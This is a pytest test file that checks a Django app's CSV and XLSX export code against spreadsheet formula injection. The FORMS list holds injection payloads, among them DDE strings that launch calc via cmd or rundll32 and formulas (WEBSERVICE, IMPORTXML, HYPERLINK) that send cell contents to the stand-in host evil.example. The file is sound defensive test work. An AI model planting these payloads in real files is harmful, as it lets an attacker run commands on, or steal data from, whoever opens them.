"""Tables for spreadsheets: no cell becomes a formula, no number becomes a text."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from apps.core.exports import LEADS, csv_text, defuse, table_response, xlsx_bytes
from tests.security.tally import trying

FORMS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    # After OWASP's "CSV Injection" and the page of PayloadsAllTheThings.
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("https://evil.example/?"&A1,"look")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=IMAGE("https://evil.example/x.png")',
    '=DDE("cmd";"/C calc";"x")',
    "\t\t=1+1",
    "\r\r=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\u2060=1+1",
    "\u202e=1+1",
    "\u3000＝1+1",
    "\xad=1+1",
    "\0=1+1",
]
# A line of its own, and a cell of its own where a spreadsheet parts cells otherwise.
PLACES = [
    *("{}", "first line\n{}", "a\nb\n{}\nc", "a;{}", "a\t{}", "a\r{}", 'a";{}'),
]
LIVE = re.compile(r"(?:^|[\n\r\t;])[\s\0\u200b\ufeff\u2060\u202e\xad]*[=+\-@＝＋－＠]")


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("place", PLACES)
def test_no_text_can_be_read_as_a_formula(form, place):
    with trying("formulas"):
        assert not LIVE.search(defuse(place.format(form)))


@pytest.mark.parametrize("form", FORMS)
def test_a_csv_cell_is_defused_whatever_column_it_is_in(form):
    text = csv_text(["A", "B"], [["plain", form], [form, 'quote " and, comma']])

    rows = list(csv.reader(io.StringIO(text, newline="")))

    with trying("formulas", 2):
        assert not LIVE.search(rows[1][1])
        assert not LIVE.search(rows[2][0])
    assert rows[2][1] == 'quote " and, comma'


@pytest.mark.parametrize("cell", [-5, 0, 3.5, Decimal("-2.50"), True, None])
def test_a_number_stays_a_number(cell):
    assert defuse(cell) is cell


@given(st.text(max_size=60))
def test_whatever_is_typed_no_line_starts_a_formula(text):
    for line in str(defuse(text)).split("\n"):
        assert not line.startswith(tuple(LEADS))


@given(st.text(alphabet=st.characters(categories=["L", "N"]), max_size=30))
def test_harmless_words_are_left_alone(text):
    assert defuse(text) == text


def read_back(content: bytes) -> list[list[object]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()  # fmt: skip


def test_a_sheet_read_again_says_the_same():
    rows = [
        ["=HYPERLINK(1)", -5, 2.5, date(2026, 11, 23), True],
        [
            "https://x.example",
            0,
            None,
            datetime(2026, 11, 23, 9, 30, tzinfo=UTC),
            False,
        ],
    ]

    head, first, second = read_back(xlsx_bytes("people", ["a", "b", "c", "d", "e"], rows))  # fmt: skip

    assert head == ["a", "b", "c", "d", "e"]
    assert first[:3] == ["=HYPERLINK(1)", -5, 2.5]
    assert first[3] in {date(2026, 11, 23), datetime(2026, 11, 23)}  # noqa: DTZ001
    assert second[0] == "https://x.example"
    assert second[3] == datetime(2026, 11, 23, 9, 30)  # noqa: DTZ001


@pytest.mark.parametrize("form", FORMS)
def test_a_sheet_holds_texts_and_no_formulas(form):
    content = xlsx_bytes("people", ["a"], [[form]])

    with zipfile.ZipFile(io.BytesIO(content)) as packed, trying("formulas"):
        sheet = packed.read("xl/worksheets/sheet1.xml")
        assert not re.search(rb"<f[ >]|<hyperlink", sheet)


@pytest.mark.parametrize("name", ["a/b", "x" * 60, "people [1]", "history", "a:b*?"])
def test_any_name_makes_a_sheet(name):
    assert read_back(xlsx_bytes(name, ["a"], [["b"]])) == [["a"], ["b"]]


@pytest.mark.parametrize("cell", ["x" * 40_000, float("nan"), float("inf"), "\x00\x0b"])
def test_any_cell_makes_a_sheet(cell):
    assert read_back(xlsx_bytes("people", ["a"], [[cell]]))[1][0] != ""


def test_an_instant_stands_as_its_readers_clock_shows_it():
    at = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)

    with timezone.override("Asia/Kolkata"):
        cell = read_back(xlsx_bytes("people", ["at"], [[at]]))[1][0]
        text = csv_text(["at"], [[at]])

    assert cell == datetime(2026, 11, 23, 15, 0)  # noqa: DTZ001
    assert "2026-11-23 15:00+05:30" in text


@pytest.mark.parametrize(
    ("fmt", "start"), [("csv", b"\xef\xbb\xbfName"), ("xlsx", b"PK")]
)
def test_a_download_says_what_it_is(fmt, start):
    answer = table_response("people-1", fmt, ["Name"], [["Ada"]])

    assert answer.content.startswith(start)
    assert answer["Content-Disposition"] == f'attachment; filename="people-1.{fmt}"'
    assert answer["X-Content-Type-Options"] == "nosniff"
